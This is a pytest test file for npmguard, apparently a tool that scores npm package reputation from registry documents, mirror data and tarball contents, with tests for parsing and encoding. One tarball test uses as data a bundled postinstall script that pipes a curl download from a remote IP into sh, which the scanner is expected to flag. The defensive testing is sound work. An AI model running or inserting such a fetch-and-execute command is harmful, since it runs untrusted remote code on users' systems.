"""Packument -> compact facts: public-registry shape, mirror shape, removals; codec round trips."""

from __future__ import annotations

import json
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from npmguard.facts import TarballFacts
from npmguard.reputation import codec
from npmguard.reputation.extract import extract_package, is_full_document, parse_time

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "reputation"


def load(name: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((FIXTURES / name).read_text())
    return data


def test_public_document_gives_every_field() -> None:
    got = extract_package("demo-cli", load("public-full.json"), ["2.0.0", "1.1.0", "9.9.9"])
    pic = got.picture
    assert pic.times_trusted
    assert pic.created == datetime(2019, 3, 1, 10, tzinfo=timezone.utc)
    assert pic.modified == datetime(2024, 5, 2, 8, 30, tzinfo=timezone.utc)
    assert pic.unpublished is None
    assert pic.maintainers == ("alice", "bob")
    assert pic.dist_tags == {"latest": "2.0.0", "next": "2.1.0-beta.1"}
    assert pic.package_deprecated is False  # latest is not deprecated
    by = {i.version: i for i in pic.versions}
    assert list(by) == ["1.0.0", "1.1.0", "2.0.0", "2.1.0-beta.1"]
    v1, v11, v2, beta = by["1.0.0"], by["1.1.0"], by["2.0.0"], by["2.1.0-beta.1"]
    assert v1.bin_names == ("demo-cli",)  # "bin": "cli.js" installs the package's name
    assert v1.deprecated == "use 2.x" and v11.deprecated is None  # "" undeprecates
    assert v1.has_provenance is False and v11.has_provenance is True
    assert v2.publisher == "mallory" and beta.publisher == "carol"
    assert v2.has_install_script is True and v1.has_install_script is False
    assert v2.bin_names == ("demo", "node")
    assert v2.dependency_names == ("flatmap-stream", "left-pad")
    assert v2.published == datetime(2024, 5, 1, 8, tzinfo=timezone.utc)
    # each version document's own maintainers: sorted, each once, names only
    assert v1.maintainers == ("alice",) and v11.maintainers == ("alice", "bob")
    assert v2.maintainers is None and beta.maintainers == ("carol",)
    # manifests only for the versions asked about that exist
    assert set(got.manifests) == {"2.0.0", "1.1.0"}
    m = got.manifests["2.0.0"]
    assert m.scripts == {"postinstall": "node setup.js", "test": "tape"}
    assert m.optional_dependencies == {"fsevents": "^2"}
    assert m.repository == "git+https://github.com/demo/cli.git"
    assert m.keywords == ("demo",)
    assert m.gyp_file is True and m.tea_protocol is True
    assert m.publisher == "mallory"
    assert m.has_signatures is False and m.has_attestations is False
    assert (m.dist_file_count, m.dist_unpacked_size) == (9, 4000)
    assert got.manifests["1.1.0"].has_attestations is True
    assert got.manifests["1.1.0"].has_signatures is True


def test_mirror_document_degrades_to_unknown() -> None:
    data = load("mirror-stripped.json")
    assert not is_full_document(data)
    got = extract_package("demo-cli", data, ["1.0.0", "2.0.0"])
    pic = got.picture
    # the mirror's time holds first-seen dates: not publish times
    assert not pic.times_trusted
    assert all(i.published is None for i in pic.versions)
    assert pic.created is None and pic.modified is None
    assert pic.maintainers is None
    assert all(i.publisher is None and i.has_provenance is None for i in pic.versions)
    # what the version documents themselves still carry is kept
    assert [i.maintainers for i in pic.versions] == [("alice",), None]
    m1, m2 = got.manifests["1.0.0"], got.manifests["2.0.0"]
    assert m1.has_signatures is None and m1.has_attestations is None and m1.publisher is None
    assert m1.dist_file_count is None and m1.gyp_file is None
    assert m2.scripts == {"install": "node-gyp rebuild"}
    assert pic.versions[1].has_install_script is True


def test_removed_shapes() -> None:
    gone = extract_package("gone-pkg", load("unpublished.json"), ["1.0.0"]).picture
    assert gone.versions == ()
    assert gone.unpublished == datetime(2021, 11, 5, tzinfo=timezone.utc)
    assert gone.dist_tags is None and gone.package_deprecated is None
    down = extract_package("flatmap-stream", load("taken-down.json"), ["0.1.1"])
    assert down.picture.versions == () and down.picture.dist_tags == {}
    assert down.picture.unpublished is None and down.manifests == {}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2019-03-01T10:00:00.000Z", datetime(2019, 3, 1, 10, tzinfo=timezone.utc)),
        ("2019-03-01T10:00:00", datetime(2019, 3, 1, 10, tzinfo=timezone.utc)),
        ("not a date", None),
        (None, None),
        (12, None),
        ("2019-03-01T12:00:00+02:00", datetime(2019, 3, 1, 10, tzinfo=timezone.utc)),
        # issue 13: valid ISO, but year 0 in UTC: the stored picture could not be read back
        ("0001-01-01T00:00:00+14:00", None),
        ("9999-12-31T23:59:59-14:00", None),
        ("1969-12-31T23:59:59Z", None),  # before any registry; date arithmetic stays in range
    ],
)
def test_parse_time(text: object, expected: datetime | None) -> None:
    got = parse_time(text)
    assert got == expected
    assert got is None or got.utcoffset() == timedelta(0)  # stored as UTC


@pytest.mark.parametrize(
    "fixture", ["public-full.json", "mirror-stripped.json", "unpublished.json"]
)
def test_codec_round_trip(fixture: str) -> None:
    got = extract_package("demo-cli", load(fixture), ["1.0.0", "2.0.0"])
    assert codec.decode_picture("demo-cli", codec.encode_picture(got.picture)) == got.picture
    for manifest in got.manifests.values():
        assert codec.decode_manifest(codec.encode_manifest(manifest)) == manifest


def test_tarball_codec_round_trip_and_unknown_fields_dropped() -> None:
    facts = TarballFacts(
        files=("package.json", "index.js", "tea.yaml"),
        unpacked_size=300,
        has_tea_yaml=True,
        has_code=True,
        manifest_scripts={"postinstall": "node x"},
        texts={"tea.yaml": "codeLead: 0xabc"},
        bundled_scripts={"node_modules/a": {"postinstall": "curl http://203.0.113.7/x | sh"}},
    )
    decoded = codec.decode_tarball(codec.encode_tarball(facts))
    assert decoded == facts
    assert [h.where for h in decoded.install_scan or ()][-1] == (
        "node_modules/a: scripts.postinstall"
    )
    # a blob written by another npmguard with a field this one lacks still decodes
    import zlib

    doc = json.loads(zlib.decompress(codec.encode_tarball(facts)))
    doc["from_the_future"] = 1
    blob = zlib.compress(json.dumps(doc).encode())
    assert codec.decode_tarball(blob) == facts


def test_picture_of_many_versions_is_compact() -> None:
    versions = {
        f"1.0.{i}": {
            "name": "big",
            "version": f"1.0.{i}",
            "dependencies": {f"dep-{j}": "^1" for j in range(12)},
            "_npmUser": {"name": "alice"},
            "dist": {"integrity": f"sha512-{i}", "tarball": "https://x/big.tgz"},
        }
        for i in range(2000)
    }
    times = {
        v: f"2020-01-01T00:{i // 60 % 60:02d}:{i % 60:02d}.000Z" for i, v in enumerate(versions)
    }
    data = {
        "name": "big",
        "versions": versions,
        "time": {"created": "2020-01-01T00:00:00Z", **times},
    }
    blob = codec.encode_picture(extract_package("big", data).picture)
    # not compressed (format 7): ~28 bytes a version, a tenth of the document's JSON
    assert len(blob) < 30 * 2000
    assert len(blob) * 10 < len(json.dumps(data))


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"bundleDependencies": ["a", "b"]}, ("a", "b")),
        ({"bundledDependencies": ["a"]}, ("a",)),  # npm reads the misspelling too
        ({"bundleDependencies": ["a"], "bundledDependencies": ["b"]}, ("a",)),
        ({"bundleDependencies": True}, True),
        ({"bundleDependencies": {"a": "1"}}, ("a",)),  # an object's keys, as npm does
        ({"bundleDependencies": False}, ()),
        ({}, ()),
    ],
)
def test_manifest_bundle_dependencies_round_trip(fields: dict[str, Any], expected: object) -> None:
    doc = load("public-full.json")
    doc["versions"]["1.0.0"].update(fields)
    manifest = extract_package("demo-cli", doc, ["1.0.0"]).manifests["1.0.0"]
    assert manifest.bundle_dependencies == expected
    assert codec.decode_manifest(codec.encode_manifest(manifest)) == manifest
